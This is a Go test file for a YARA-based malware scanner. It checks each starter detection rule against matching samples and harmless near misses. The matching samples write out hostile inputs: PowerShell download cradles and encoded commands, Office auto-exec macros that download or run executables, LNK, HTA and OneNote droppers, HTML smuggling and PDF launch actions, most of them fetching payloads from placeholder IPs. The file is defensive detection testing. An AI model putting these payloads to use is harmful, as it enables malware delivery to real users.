package scan

import (
	"context"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
)

// The starter rule set in ../rules: every rule has positive samples (it
// must match) and negative samples (near misses: the same keywords or
// formats in harmless use; no starter rule may match them).

var (
	starterOnce sync.Once
	starter     *Engine
	starterErr  []RuleError
)

// starterGlobs are the default glob plus the optional rules.
var starterGlobs = []string{"../rules/*.yar", "../rules/optional/*.yar"}

func starterEngine(t testing.TB) *Engine {
	t.Helper()
	starterOnce.Do(func() {
		r, problems, err := Compile(starterGlobs, ".")
		if err != nil {
			t.Fatalf("compile starter rules: %v", err)
		}
		starterErr = problems
		if r != nil {
			starter = NewEngine(r, 0)
		}
	})
	if starter == nil {
		t.Fatalf("starter rules do not compile: %v", starterErr)
	}
	return starter
}

type sample struct {
	name string
	vars Vars
	data []byte
}

func text(name, s string) sample { return sample{name: name, data: []byte(s)} }

const vbaHeader = "Attribute VB_Name = \"ThisDocument\"\r\nAttribute VB_Base = \"1Normal.ThisDocument\"\r\n" +
	"Attribute VB_GlobalNameSpace = False\r\nAttribute VB_Creatable = False\r\n"

type ruleSamples struct{ pos, neg []sample }

var (
	casesOnce sync.Once
	cases     map[string]ruleSamples
)

// starterCases maps each starter rule to its samples (built once).
func starterCases(t *testing.T) map[string]ruleSamples {
	t.Helper()
	casesOnce.Do(func() { cases = buildStarterCases(t) })
	if cases == nil {
		t.Fatal("building the samples failed")
	}
	return cases
}

func buildStarterCases(t *testing.T) map[string]ruleSamples {
	payload := psEncoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")
	return map[string]ruleSamples{
		"EICAR_Test_File": {
			pos: []sample{
				text("eicar", eicar),
				text("eicar with CRLF", eicar+"\r\n"),
				text("eicar padded", eicar+strings.Repeat(" ", 60)),
			},
			neg: []sample{
				text("quoted in a mail", "Hi team,\nto test the gateway send the string "+eicar+" in a file.\n"),
				text("followed by text", eicar+"and more"),
				text("truncated", eicar[:60]),
			},
		},
		"Office_VBA_AutoExec_Shell_Or_Download": {
			pos: []sample{
				text("document_open wscript run", vbaHeader+"Private Sub Document_Open()\r\n  Dim c As String\r\n"+
					"  c = \"powershell -w hidden -enc \" & Payload()\r\n  CreateObject(\"WScript.Shell\").Run c, 0\r\nEnd Sub\r\n"),
				text("autoopen urldownloadtofile", vbaHeader+"Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" "+
					"(ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\r\n"+
					"Sub AutoOpen()\r\n  URLDownloadToFileA 0, \"http://198.51.100.7/x.exe\", Environ(\"TEMP\") & \"\\x.exe\", 0, 0\r\nEnd Sub\r\n"),
				text("workbook_open shell", "Attribute VB_Name = \"ThisWorkbook\"\r\nPrivate Sub Workbook_Open()\r\n"+
					"  Shell \"cmd /c start %TEMP%\\\\u.exe\", vbHide\r\nEnd Sub\r\n"),
				text("auto_open xmlhttp", vbaHeader+"Sub Auto_Open()\r\n  Set h = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\")\r\n"+
					"  h.Open \"GET\", \"http://example.invalid/p\", False\r\nEnd Sub\r\n"),
			},
			neg: []sample{
				text("document_open formatting", vbaHeader+"Private Sub Document_Open()\r\n"+
					"  ActiveWindow.View.Zoom.Percentage = 120\r\n  Set d = CreateObject(\"Scripting.Dictionary\")\r\n"+
					"  d.Add \"k\", Now\r\n  Application.StatusBar = \"Ready\"\r\nEnd Sub\r\n"),
				text("shell behind a button", vbaHeader+"Private Sub CommandButton1_Click()\r\n"+
					"  Shell \"notepad.exe \" & ThisDocument.FullName, vbNormalFocus\r\nEnd Sub\r\n"),
				text("mail discussing macros", "Please do not use Document_Open or AutoOpen macros that call Shell(\"cmd\") "+
					"or URLDownloadToFile; IT blocks them.\n"),
			},
		},
		"Office_XLM_Macro_Exec": {
			pos: []sample{
				text("macrosheet exec", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\r\n"+
					`<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" `+
					`xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>`+
					`<row r="1"><c r="A1"><f>EXEC("cmd /c mshta http://203.0.113.5/p.hta")</f></c></row>`+
					`<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`),
				text("macrosheet register", `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>`+
					`<row r="4"><c r="B4" t="str"><f t="shared" ref="B4">REGISTER("Kernel32","VirtualAlloc","JJJJJ","VA",,1,9)</f></c></row>`+
					`</sheetData></xm:macrosheet>`),
				text("sylk exec", "ID;P\r\nC;X1;Y1;K0;EEXEC(\"calc.exe\")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n"),
			},
			neg: []sample{
				text("worksheet formulas", `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+
					`<row r="1"><c r="A1"><f>SUM(B1:B9)</f></c><c r="A2" t="inlineStr"><is><t>EXEC(</t></is></c></row></sheetData></worksheet>`),
				text("macrosheet without calls", `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>`+
					`<row r="1"><c r="A1"><f>SUM(B1:B9)</f></c></row><row r="2"><c r="A2"><f>RETURN()</f></c></row></sheetData></xm:macrosheet>`),
				text("sylk sum", "ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nC;X1;Y2;K2;ESUM(R1C1:R1C1)\r\nE\r\n"),
			},
		},
		"Office_XLM_Macro_Exec_BIFF": {
			pos: []sample{
				{name: "hidden macro sheet exec", data: xlsBIFF(1, 2, 0x006E, 1)},
				{name: "macro sheet call", data: xlsBIFF(1, 0, 0x0096, 5)},
			},
			neg: []sample{
				{name: "worksheet exec token", data: xlsBIFF(0, 0, 0x006E, 1)},
				{name: "macro sheet sum", data: xlsBIFF(1, 0, 0x0004, 1)},
			},
		},
		"LNK_Runs_Interpreter_With_Arguments": {
			pos: []sample{
				{name: "powershell encoded", data: lnkFile(`..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
					"-NoP -W Hidden -enc "+payload)},
				{name: "mshta url", data: lnkFile(`C:\Windows\System32\mshta.exe`, "https://203.0.113.8/invoice.hta")},
				{name: "cmd /c", data: lnkFile(`%windir%\system32\cmd.exe`, `/c start /min %TEMP%\a.bat`)},
			},
			neg: []sample{
				{name: "notepad with document", data: lnkFile(`C:\Windows\notepad.exe`, `C:\Users\Public\readme.txt`)},
				{name: "cmd without arguments", data: lnkFile(`C:\Windows\System32\cmd.exe`, "")},
				{name: "application shortcut", data: lnkFile(`C:\Program Files\Contoso\Ledger\ledger.exe`, "--profile accounting")},
			},
		},
		"Disk_Image_With_LNK": {
			pos: []sample{
				{name: "iso with lnk", data: makeISO(t, map[string][]byte{
					"INVOICE.LNK": lnkFile(`C:\Windows\System32\cmd.exe`, "/c calc"),
					"README.TXT":  []byte("open the invoice"),
				})},
				{name: "fat img with lnk", data: makeFAT(t, map[string][]byte{
					"Invoice-2024.pdf.lnk": lnkFile(`C:\Windows\System32\mshta.exe`, "http://203.0.113.8/"),
				})},
			},
			neg: []sample{
				{name: "iso with documents", data: makeISO(t, map[string][]byte{
					"REPORT.PDF": pdfFile("", "Quarterly report"),
					"NOTES.TXT":  []byte("see the report"),
				})},
				{name: "fat img with documents", data: makeFAT(t, map[string][]byte{
					"photos.txt": []byte("holiday photos list"),
				})},
			},
		},
		"Script_Dropper_Shell_Run": {
			pos: []sample{
				text("hta jscript", `<html><head><hta:application id="app" windowstate="minimize"/>`+
					`<script language="JScript">var sh = new ActiveXObject("WScript.Shell");`+
					`sh.Run("powershell -w hidden -c calc", 0, false); window.close();</script></head></html>`),
				text("vbs", "Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"cmd /c %TEMP%\\\\p.exe\", 0\r\n"),
				text("js shell.application", `var a = new ActiveXObject("Shell.Application");`+
					`a.ShellExecute("cmd.exe", "/c certutil -urlcache -f http://x/y y.exe", "", "open", 0);`),
			},
			neg: []sample{
				text("js file reader", `var fso = new ActiveXObject("Scripting.FileSystemObject");`+
					`var f = fso.OpenTextFile("C:\\data\\in.csv", 1); WScript.Echo(f.ReadAll()); f.Close();`),
				text("admin howto", "To restart the service, open WScript.Shell documentation and read about the Run method.\n"),
			},
		},
		"PowerShell_Encoded_Command": {
			pos: []sample{
				text("bat", "@echo off\r\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "+payload+"\r\n"),
				text("short flag", `cmd /c "powershell -nop -w 1 -e `+payload+`"`),
				text("en dash", "pwsh \u2013ec "+payload),
				text("slash flag", "POWERSHELL /enc "+payload),
			},
			neg: []sample{
				text("execution policy", "powershell -ExecutionPolicy Bypass -File C:\\Scripts\\Backup-Database-And-Verify-Every-Night.ps1\r\n"),
				text("docs", "PowerShell accepts -EncodedCommand with a base64 string; see the docs.\r\n"),
				text("encoded without powershell", "tool.exe -enc "+payload),
			},
		},
		"PowerShell_Download_Cradle": {
			pos: []sample{
				text("iex downloadstring", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"),
				text("iwr pipe iex", "iwr http://203.0.113.9/a.ps1 -UseBasicParsing | iex"),
				text("reflective load", "$b = (New-Object System.Net.WebClient).DownloadData('http://203.0.113.9/x.dll');"+
					"[System.Reflection.Assembly]::Load($b)"),
			},
			neg: []sample{
				text("installer download", "Invoke-WebRequest -Uri https://intranet.example/app.msi -OutFile C:\\Temp\\app.msi\r\n"+
					"Start-Process msiexec.exe -ArgumentList '/i C:\\Temp\\app.msi /qn' -Wait\r\n"),
				text("stock mail", "IEX closed higher today; the web client download of the report is attached.\n"),
			},
		},
		"HTML_Smuggling_Blob_Download": {
			pos: []sample{
				text("atob blob click", `<html><body><script>var d = atob("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA");`+
					`var u = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) { u[i] = d.charCodeAt(i); }`+
					`var b = new Blob([u], {type: "application/octet-stream"}); var a = document.createElement("a");`+
					`a.href = window.URL.createObjectURL(b); a.download = "invoice.iso"; document.body.appendChild(a); a.click();`+
					`</script></body></html>`),
				text("msSaveOrOpenBlob", `<script>var s = "UEsDBBQAAAAIAA"; var bin = window.atob(s);`+
					`var blob = new Blob([bin]); if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "doc.zip"); }</script>`),
			},
			neg: []sample{
				text("csv export", `<script>function exportCsv(rows) { var csv = rows.map(r => r.join(",")).join("\n");`+
					`var b = new Blob([csv], {type: "text/csv"}); var a = document.createElement("a");`+
					`a.href = URL.createObjectURL(b); a.download = "report.csv"; a.click(); }</script>`),
				text("newsletter with inline image", `<html><body><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB">`+
					`<p>Our new Blob storage offering launches next week.</p></body></html>`),
			},
		},
		"OneNote_Embedded_Script_Or_Executable": {
			pos: []sample{
				{name: "embedded exe", data: oneNote("Double click to view the document", peStub())},
				{name: "embedded bat", data: oneNote("Double click", pngStub(),
					[]byte("@echo off\r\npowershell -w hidden -c \"iwr http://203.0.113.4/a -o a.exe; .\\a.exe\"\r\n"))},
				{name: "embedded hta", data: oneNote("Open", []byte(`<html><hta:application windowstate="minimize"/>`+
					`<script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c calc", 0</script></html>`))},
				{name: "embedded lnk", data: oneNote("Open", lnkFile(`C:\Windows\System32\cmd.exe`, "/c calc"))},
			},
			neg: []sample{
				{name: "embedded image", data: oneNote("Team photo", pngStub())},
				{name: "notes about powershell", data: oneNote("Use powershell and cmd.exe to restart the server", pngStub())},
			},
		},
		"PDF_Launch_Action": {
			pos: []sample{
				{name: "openaction launch", data: pdfFile("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>", "Invoice")},
				{name: "escaped name", data: pdfFile("/OpenAction << /S /L#61unch /F (invoice.exe) >>", "Invoice")},
				{name: "escaped first letter", data: pdfFile("/AA << /O << /S /#4caunch /F (x.exe) >> >>", "Invoice")},
			},
			neg: []sample{
				{name: "uri action", data: pdfFile("/OpenAction << /S /URI /URI (https://example.com/) >>", "Product Launch 2024")},
				{name: "plain pdf", data: pdfFile("", "Product Launch / Q3 plan")},
			},
		},
	}
}

func TestStarterRulesCompileCleanly(t *testing.T) {
	e := starterEngine(t)
	files, n := e.Rules()
	if n < 10 {
		t.Errorf("starter set has %d rules from %v", n, files)
	}
	for _, p := range starterErr {
		if !strings.Contains(p.File, "/optional/") {
			t.Errorf("default starter rules have a warning: %v", p)
		}
	}
	// The default glob alone compiles without any warning.
	r, problems, err := Compile([]string{"../rules/*.yar"}, ".")
	if err != nil || r == nil || len(problems) > 0 {
		t.Fatalf("default glob: %v %v", problems, err)
	}
	r.Close()
}

func TestStarterRulesMeta(t *testing.T) {
	e := starterEngine(t)
	e.mu.Lock()
	info := e.cur.rules.info
	e.mu.Unlock()
	cases := starterCases(t)
	for key, ri := range info {
		for _, k := range []string{"description", "severity", "reference"} {
			if s, _ := ri.meta[k].(string); s == "" {
				t.Errorf("rule %s:%s has no meta %s", key.ns, key.name, k)
			}
		}
		if s, ok := parseSeverity(ri.meta["severity"].(string)); !ok || string(s) != ri.meta["severity"] {
			t.Errorf("rule %s has severity %v", key.name, ri.meta["severity"])
		}
		c, ok := cases[key.name]
		if !ok || len(c.pos) == 0 || len(c.neg) == 0 {
			t.Errorf("rule %s has no positive and negative samples", key.name)
		}
	}
}

func TestStarterRules(t *testing.T) {
	e := starterEngine(t)
	ctx := context.Background()
	for rule, c := range starterCases(t) {
		t.Run(rule, func(t *testing.T) {
			for _, s := range c.pos {
				m, err := e.ScanBytes(ctx, s.data, s.vars)
				if err != nil {
					t.Fatalf("%s: %v", s.name, err)
				}
				if !slices.Contains(ruleNames(m), rule) {
					t.Errorf("positive %q: matches %v, want %s", s.name, ruleNames(m), rule)
				}
			}
			for _, s := range c.neg {
				m, err := e.ScanBytes(ctx, s.data, s.vars)
				if err != nil {
					t.Fatalf("%s: %v", s.name, err)
				}
				if len(m) > 0 {
					t.Errorf("negative %q: matches %v, want none", s.name, ruleNames(m))
				}
			}
		})
	}
}

// TestStarterRulesWithYaraCLI runs the same positive samples through
// Debian's yara binary: the rules must mean the same to both.
func TestStarterRulesWithYaraCLI(t *testing.T) {
	need(t, "yara")
	dir := t.TempDir()
	cases := starterCases(t)
	var names []string
	for rule, c := range cases {
		for i, s := range c.pos {
			p := filepath.Join(dir, rule+"-"+string(rune('a'+i)))
			writeFile(t, p, s.data)
			names = append(names, rule+" "+p)
		}
	}
	rules, _ := filepath.Glob("../rules/*.yar")
	opt, _ := filepath.Glob("../rules/optional/*.yar")
	out := runCmd(t, "yara", append(append(append([]string{"-w"}, rules...), opt...), dir)...)
	for _, want := range names {
		if !strings.Contains(out, want+"\n") {
			t.Errorf("yara CLI did not report %q:\n%s", want, out)
		}
	}
}
